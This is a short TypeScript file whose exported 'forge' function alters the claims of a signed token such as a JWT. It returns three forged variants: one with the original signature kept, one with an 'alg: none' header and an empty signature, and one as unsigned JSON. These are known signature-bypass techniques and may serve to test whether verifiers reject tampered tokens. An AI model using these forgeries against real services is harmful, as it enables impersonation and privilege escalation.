const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/**
 * Forges a signed token without its key: changed claims with the original signature, with none, and as unsigned JSON.
 */
export function forge(token: string, claims: object): Record<'kept' | 'none' | 'plain', string> {
  const [header = '', payload = '', signature = ''] = token.split('.');
  const changed = { ...JSON.parse(Buffer.from(payload, 'base64url').toString()), ...claims };
  return {
    kept: `${header}.${encode(changed)}.${signature}`,
    none: `${encode({ alg: 'none' })}.${encode(changed)}.`,
    plain: encode(changed),
  };
}
